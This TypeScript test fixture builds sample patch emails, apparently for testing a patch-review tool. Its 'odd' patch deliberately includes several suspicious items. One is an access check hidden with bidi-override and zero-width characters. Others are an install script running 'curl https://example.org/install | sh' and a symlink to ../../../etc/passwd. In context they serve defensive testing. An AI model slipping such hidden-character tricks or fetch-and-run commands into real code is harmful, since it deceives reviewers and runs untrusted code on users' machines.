import { hostileMails } from './hostile-mails.ts';
import { changedFile, newFile, patchBody, type SentMail, seriesMails } from './patches-mails.ts';

const carol = 'Carol Nowak <carol@example.org>';

const first = {
	subject: 'config: read the file once',
	body: patchBody('It was read for each key.\n\nSigned-off-by: Bob Ellis <bob@example.org>', [
		changedFile('src/config.c', 10, [
			' int read_config(void)',
			' {',
			'-\tfor (int i = 0; i < keys; i++)',
			'-\t\tread_key(i);',
			'+\tread_all_keys();',
			' \treturn 0;',
			' }',
		]),
	]),
};
const keys = (word: string, message: string) => ({
	subject: 'keys: keep them in order',
	body: patchBody(message, [
		changedFile('src/keys.c', 40, [
			' void sort_keys(struct key *all, size_t count)',
			' {',
			`-\tqsort(all, count, sizeof *all, compare_names);`,
			`+\tqsort(all, count, sizeof *all, ${word});`,
			' }',
		]),
		newFile('docs/keys.md', ['# Keys', '', 'They are sorted by their names.']),
	]),
});
const manual = {
	subject: 'docs: say where the file is',
	body: patchBody('Asked on the list.', [
		changedFile('README.md', 3, [' It has no settings.', '+The keys are in `~/.config/editor`.', ' ']),
	]),
};
const dropped = {
	subject: 'term: remove an old name',
	body: patchBody('Nothing uses it.', [
		changedFile('src/term.h', 5, [
			' struct term;',
			'-#define TERMINAL struct term',
			' void term_init(void);',
		]),
	]),
};
const added = {
	subject: 'test: keys that are not sorted',
	body: patchBody('A test for the order.', [
		newFile('test/keys.c', ['#include "keys.h"', '', 'int main(void)', '{', '\treturn 0;', '}']),
	]),
};

/** Two versions with patches that are unchanged, changed, added, dropped and moved. */
const compared: readonly SentMail[] = [
	...seriesMails({
		...{ id: 'order-1@example.org', brackets: 'PATCH editor' },
		cover: { subject: 'Keys in order', body: 'Four small patches for the keys.\n\n-- \n2.45.2\n' },
		patches: [first, keys('compare_keys', 'They were in the order of the file.'), dropped, manual],
	}),
	...seriesMails({
		...{ id: 'order-2@example.org', brackets: 'PATCH editor v2', answers: 'order-1@example.org' },
		cover: { subject: 'Keys in order', body: 'Changes since v1:\n- another order (Ana)\n\n-- \n2.45.2\n' },
		patches: [
			first,
			manual,
			keys('by_name_then_number', 'They were in the order of the file,\nwhich nobody expected.'),
			added,
		],
	}),
];

/** Two versions of a patch, each in its own thread: the page of the second one does not read the first one. */
const unread: readonly SentMail[] = ['', ' v2'].flatMap((version, index) =>
	seriesMails({
		...{ id: `unread-${index + 1}@example.org`, brackets: `PATCH editor${version}` },
		patches: [
			{
				subject: 'undo: forget what is too old',
				body: patchBody('It filled the memory.', [
					changedFile('src/undo.c', 12, [' {', `+\tforget_older_than(${index + 1}000);`, ' }']),
				]),
			},
		],
	}),
);

/** One of each file that a reader should look at twice. */
const odd: readonly SentMail[] = seriesMails({
	...{ id: 'odd@example.org', brackets: 'PATCH editor' },
	patches: [
		{
			subject: 'build: everything at once',
			body: patchBody('Scripts, links and locks.', [
				changedFile('src/access.c', 20, [
					' {',
					'-\tif (is_admin)',
					'+\tif (level != "user\u202e \u2066// only for admins\u2069 \u2066")',
					' \t\treturn 1;',
					'+\tint sc\u200bope = 0;',
					' }',
				]),
				newFile('tools/install.sh', ['#!/bin/sh', 'curl https://example.org/install | sh'], '100755'),
				newFile('src/current', ['../../../etc/passwd'], '120000'),
				newFile('vendor/library', ['Subproject commit 0123456789abcdef0123456789abcdef01234567'], '160000'),
				newFile('.github/workflows/build.yml', ['on: push', 'jobs: {}']),
				newFile('.husky/pre-commit', ['#!/bin/sh', 'true'], '100755'),
				changedFile('package-lock.json', 1, [' {', '-\t"version": "1"', '+\t"version": "2"', ' }']),
				'diff --git a/logo.png b/logo.png\nindex 1111111..2222222 100644\nBinary files a/logo.png and b/logo.png differ',
				'diff --git a/src/old-name.c b/src/new-name.c\nsimilarity index 100%\nrename from src/old-name.c\nrename to src/new-name.c',
				'diff --git a/run b/run\nold mode 100644\nnew mode 100755',
			]),
		},
	],
});

/** A file with many lines, and one with a long line. */
const huge: readonly SentMail[] = seriesMails({
	...{ id: 'huge@example.org', brackets: 'PATCH editor' },
	patches: [
		{
			subject: 'words: a list of words',
			body: patchBody('For spelling.', [
				newFile(
					'share/words.txt',
					Array.from({ length: 12_000 }, (_, nth) => `word ${nth}`),
				),
				newFile('share/words.json', [
					JSON.stringify(Array.from({ length: 40_000 }, (_, nth) => `word ${nth}`)),
				]),
			]),
		},
	],
});

/** Long names, in a long title. */
const long: readonly SentMail[] = [
	...seriesMails({
		...{ id: 'long@example.org', brackets: 'RFC PATCH editor' },
		patches: [
			{
				subject:
					'editor: a title that its author has written without any thought for those who have to read it in a narrow side bar or on a page',
				body: patchBody(
					'A-line-without-a-place-to-break-it-that-goes-on-and-on-and-on-and-on-and-on-and-on-and-on-and-on-and-on-and-on-and-on-and-on-and-on-and-on.',
					[
						changedFile(
							'src/a-folder-with-a-rather-long-name/and-another-one-below-it/and-a-file-whose-name-does-not-fit-either.c',
							1234,
							[
								' int a;',
								`-const char *text = "${'a long text '.repeat(30)}";`,
								`+const char *text = "${'a longer text '.repeat(30)}";`,
							],
						),
					],
				),
			},
		],
	}),
	{
		id: 'long-reply@example.org',
		subject: 'Re: [RFC PATCH editor] editor: a title that its author has written',
		answers: 'long@example.org',
		from: carol,
		body: `> +const char *text = "${'a longer text '.repeat(30)}";\n\nToo long.\n`,
	},
];

export const patchesWorld: readonly SentMail[] = [
	...compared,
	...unread,
	...odd,
	...hostileMails,
	...huge,
	...long,
];
